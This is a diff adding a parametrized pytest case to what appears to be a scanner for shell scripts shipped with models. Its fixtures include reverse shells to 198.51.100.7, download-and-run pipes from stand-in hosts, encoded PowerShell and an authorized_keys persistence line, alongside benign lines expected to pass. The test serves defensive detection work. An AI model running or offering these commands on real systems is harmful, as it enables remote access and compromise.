@@ -42,3 +42,25 @@ def test_machine_code_is_never_complete_but_a_script_is_read() -> None:
     script = read_with(executable, b"#!/bin/sh\n", name="x.sh")
     assert not script.reasons
     assert uncovered(script) == 0
+
+
+@pytest.mark.parametrize(
+    ("script", "attacks"),
+    [
+        (b"bash -i >& /dev/tcp/198.51.100.7/4444 0>&1", 1),
+        (b"nc -e /bin/sh 198.51.100.7 4444", 1),
+        (b"echo aWQ= | base64 -d | bash", 1),
+        (b"curl http://198.51.100.7/x | sh", 1),
+        (b"wget -qO- http://evil.example/x | sudo bash", 1),
+        (b"powershell -enc aQBkAGkAZABpAGQA", 1),
+        (b"IEX (New-Object Net.WebClient).DownloadString('http://x')", 1),
+        (b"echo ssh-rsa A >> ~/.ssh/authorized_keys", 1),
+        (b"curl -fsSL https://ollama.com/install.sh | sh", 0),
+        (b"huggingface-cli download org/model\npython train.py --epochs 3\nrsync -e ssh a b", 0),
+        (b"crontab -l", 0),
+        (b"base64 -d data.b64 > data.bin", 0),
+    ],
+)
+def test_what_no_script_of_a_model_does_is_stated(script: bytes, attacks: int) -> None:
+    reading = read_with(executable, b"#!/bin/sh\n" + script, name="run.sh")
+    assert sum(isinstance(fact, Code) and fact.action == "script-attack" for fact in reading.facts) == attacks
